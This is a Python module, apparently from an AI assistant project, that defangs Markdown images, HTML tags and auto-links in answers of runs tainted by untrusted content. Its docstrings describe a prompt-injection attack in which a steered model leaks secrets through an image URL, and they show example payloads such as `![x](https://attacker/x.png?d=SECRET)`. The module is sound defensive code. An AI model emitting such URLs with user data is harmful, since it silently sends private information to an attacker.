"""Neutralize Markdown that makes a client fetch a URL on its own, in answers of tainted runs.

A Markdown client fetches an image as soon as it renders it (`![x](https://attacker/x.png?d=SECRET)`),
and many chat clients fetch a link's preview as soon as they show a bare URL. A model steered
by content it read can put data in such a URL; nobody clicks anything, the data is gone. So in
a tainted run's answer, these are rewritten when they point to a host the person did not name
(in their own words, or in an `[egress] allow_hosts` rule):

- images: inline `![alt](url)`, reference definitions `[ref]: url` (what `![alt][ref]` fetches),
  and HTML tags that load something (`<img src>`, `<video poster>`, `<iframe>`, `srcset`,
  `style="...url(...)"`): the image becomes `[image removed: alt; it pointed to host]`;
- auto-links: `<https://...>` and bare `https://...` / `www....` URLs are defanged
  (`https[:]//attacker[.]example/...`), which no client links or previews.

Ordinary links `[text](url)` are left as they are: a client fetches them only when the person
clicks (docs/trust.md lists this among what is not protected).

`MarkdownStream` does the same on a stream of pieces, holding back only an unfinished
construct (an image or link not closed yet, a tag not closed, a URL that may go on), so what it
emits never changes when more text arrives.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from typing import Any
from urllib.parse import urlsplit

_IMAGE = re.compile(r"!\[([^\]\n]{0,2000})\]\(\s*(<[^>\n]*>|[^)\s]*)"
                    r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)")
_LINK = re.compile(r"(?<!!)\[[^\]\n]{0,2000}\]\(\s*(<[^>\n]*>|[^)\s]*)"
                   r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?\s*\)")
_REFDEF = re.compile(r"(?m)^( {0,3}\[[^\]\n]{1,999}\]:)[ \t]*(<[^>\n]*>|\S+)[^\n]*$")
_TAG = re.compile(r"<([A-Za-z][A-Za-z0-9-]{0,30})(?=[\s/>])[^<>]{0,8000}>")
_AUTOLINK = re.compile(r"(?i)<((?:https?|ftp)://[^<>\s]*|www\.[^<>\s]*)>")
_BARE = re.compile(r"(?i)(?:\b(?:https?|ftp)://|(?<![\w.-])www\.)[^\s<>\"'`]+")
_TAG_URL = re.compile(r"(?i)(?:(?:https?|ftp):)?//[^\s\"'<>()]+")
_TRAIL = ".,;:!?)]}'\""
HOLD_MAX = 8_192  # longest unfinished construct held back in a stream

Allowed = Callable[[str], bool]


def _host(url: str) -> str:
    url = url.strip().strip("<>")
    if url.lower().startswith("www."):
        url = "http://" + url
    elif url.startswith("//"):
        url = "http:" + url
    try:
        return (urlsplit(url).hostname or "").lower().rstrip(".")
    except ValueError:
        return ""


def defang(url: str) -> str:
    """A URL no client links or previews, still readable: `https[:]//evil[.]example/x`."""
    return url.replace("://", "[:]//").replace(".", "[.]")


def _is_local(url: str) -> bool:
    """A relative URL or a fragment: nothing is fetched from another host."""
    url = url.strip().strip("<>")
    return not url or (not re.match(r"(?i)^[a-z][a-z0-9+.-]*:", url)
                       and not url.startswith("//") and not url.lower().startswith("www."))


def neutralize(text: str, allowed: Allowed, *, images_only: bool = False) -> str:
    """`text` with images and auto-links to hosts `allowed(host)` refuses made inert.

    `images_only` keeps auto-links (for tool output a client model reads, where a URL is
    something to follow, not something rendered)."""
    if not text or not any(mark in text for mark in ("](", "]:", "<", "://", "www.")):
        return text

    def fetches(url: str) -> bool:
        """Whether rendering `url` would reach a host that is not allowed."""
        if _is_local(url):
            return False
        lowered = url.strip().strip("<>").lower()
        if lowered.startswith("data:"):
            return False  # inline data: nothing is fetched
        host = _host(url)
        return not host or not allowed(host) or not _url_ok(allowed, url)

    def image(match: re.Match[str]) -> str:
        alt, url = match.group(1), match.group(2)
        if not fetches(url):
            return match.group(0)
        return f"[image removed: {alt.strip() or 'no description'}; it pointed to " \
               f"{defang(_host(url) or 'an unknown host')}]"

    def refdef(match: re.Match[str]) -> str:
        url = match.group(2)
        if not fetches(url):
            return match.group(0)
        return f"{match.group(1)} (link removed: it pointed to {defang(_host(url) or 'an unknown host')})"

    def tag(match: re.Match[str]) -> str:
        if match.group(1).lower() == "a":
            return match.group(0)
        urls = _TAG_URL.findall(match.group(0))
        bad = [_host(u) for u in urls
               if not _host(u) or not allowed(_host(u)) or not _url_ok(allowed, u)]
        if not bad:
            return match.group(0)
        return f"[{match.group(1).lower()} removed: it pointed to {defang(bad[0] or 'an unknown host')}]"

    text = _IMAGE.sub(image, text)
    text = _REFDEF.sub(refdef, text)
    text = _TAG.sub(tag, text)
    if images_only:
        return text

    def autolink(match: re.Match[str]) -> str:
        url = match.group(1)
        return match.group(0) if not fetches(url) else defang(url)

    text = _AUTOLINK.sub(autolink, text)
    # Bare URLs, except the targets of ordinary links (kept, see the module docstring).
    kept = [m.span(1) for m in _LINK.finditer(text)]
    out: list[str] = []
    last = 0
    for match in _BARE.finditer(text):
        start, end = match.span()
        if any(a <= start < b for a, b in kept):
            continue
        url = match.group(0)
        while url and url[-1] in _TRAIL:
            url = url[:-1]
        if not url or not fetches(url):
            continue
        out.append(text[last:start])
        out.append(defang(url))
        last = start + len(url)
    out.append(text[last:])
    return "".join(out)


def _url_ok(allowed: Allowed, url: str) -> bool:
    check = getattr(allowed, "url_ok", None)
    if check is None:
        return True
    url = url.strip().strip("<>")
    if url.lower().startswith("www."):
        url = "http://" + url
    elif url.startswith("//"):
        url = "http:" + url
    return bool(check(url))


def allowed_hosts(named: Iterable[str], rule: Callable[[str], bool] | None = None,
                  url_ok: Callable[[str], bool] | None = None) -> Allowed:
    """An `allowed(host)` from host names the person wrote (ports ignored: rendering an image
    from a host the person named is no leak to a stranger) and an optional rule check.
    `url_ok(url)`, when given, must also accept a URL on a named host that no rule allows:
    while the run holds private data, a URL a client fetches is egress like any other (the
    person named the attacker's page: `![x](https://that.page/?d=SECRET)` reaches it)."""
    hosts = {n.rpartition(":")[0] if n.count(":") == 1 else n for n in named}
    hosts |= {h.removeprefix("www.") for h in hosts}

    def check(host: str) -> bool:
        host = host.lower()
        return host in hosts or host.removeprefix("www.") in hosts or bool(rule and rule(host))

    if url_ok is not None:
        def ok(url: str) -> bool:
            return bool(rule and rule(_host(url))) or url_ok(url)

        check.url_ok = ok  # type: ignore[attr-defined]
    return check


class MarkdownStream:
    """`neutralize` over a stream: `feed(piece)` returns what can be shown now, `flush()` the
    rest. Text is held back only while a construct may still be unfinished."""

    def __init__(self, allowed: Allowed, *, images_only: bool = False) -> None:
        self.allowed = allowed
        self.images_only = images_only
        self._held = ""

    def feed(self, piece: str) -> str:
        if not piece:
            return ""
        text = self._held + piece
        cut = _safe_cut(text)
        if len(text) - cut > HOLD_MAX:
            # An unfinished construct this long is no image a model meant to show: emit it
            # with every URL defanged and image syntax broken, so no later piece completes it.
            self._held = ""
            return _inert(neutralize(text, self.allowed, images_only=self.images_only))
        self._held = text[cut:]
        return neutralize(text[:cut], self.allowed, images_only=self.images_only)

    def flush(self) -> str:
        text, self._held = self._held, ""
        return neutralize(text, self.allowed, images_only=self.images_only)


def _inert(text: str) -> str:
    return defang(text.replace("![", "!\\[").replace("<", "&lt;"))


def _safe_cut(text: str) -> int:
    """Where `text` may be split: before any construct that is not finished yet."""
    cut = len(text)
    tail = re.search(r"\S+\Z", text)
    if tail is not None:  # a trailing word may be a URL that goes on
        cut = tail.start()
    line = text.rfind("\n") + 1
    # An image or link on the current line not finished, or finished only after the cut.
    index = text.find("[", line)
    while index != -1 and index < cut:
        start = index - 1 if index > line and text[index - 1] == "!" else index
        close = text.find("]", index)
        if close == -1 or close + 1 >= len(text):
            cut = min(cut, start)
            break
        if text[close + 1] == "(":
            end = text.find(")", close)
            if end == -1 or end >= cut:
                cut = min(cut, start)
                break
        index = text.find("[", index + 1)
    # A tag or auto-link opened and not closed before the cut.
    lt = text.rfind("<", 0, cut)
    if lt != -1 and (lt + 1 == len(text) or text[lt + 1].isalpha() or text[lt + 1] == "/"):
        gt = text.find(">", lt)
        if gt == -1 or gt >= cut:
            cut = min(cut, lt)
    # A reference definition line (`[ref]: url`) not ended yet.
    if text[line:line + 4].lstrip(" ").startswith("["):
        cut = min(cut, line)
    return cut


class AnswerGuard:
    """An answer's text on its way to the person: once the run is tainted, streamed pieces
    go through a MarkdownStream and the final text through `neutralize`, against the hosts
    the person named and their allow rules (`trust`: a RunTrust)."""

    def __init__(self, trust: Any, on_token: Callable[[str], Any] | None = None) -> None:
        self.trust = trust
        self.on_token = on_token
        self._stream: MarkdownStream | None = None

    def allowed(self) -> Allowed:
        trust = self.trust

        def url_ok(url: str) -> bool:  # the guard's rule (b), once the run holds private data
            from jarvis.trust.evidence import budget, url_covered

            return not trust.private_by or url_covered(url, trust.evidence, budget()) is not None

        return allowed_hosts(trust.evidence.person_hosts, trust.rules.allows_host, url_ok)

    def token(self, piece: str) -> None:
        if self.on_token is None:
            return
        if self._stream is None and self.trust.tainted:
            self._stream = MarkdownStream(self.allowed())
        if self._stream is not None:
            piece = self._stream.feed(piece)
        if piece:
            self.on_token(piece)

    def finish(self, content: str) -> str:
        """Emit what a stream held back; the final text, neutralized when tainted."""
        if self._stream is not None and self.on_token is not None:
            rest = self._stream.flush()
            if rest:
                self.on_token(rest)
        if self.trust.tainted and isinstance(content, str):
            return neutralize(content, self.allowed())
        return content
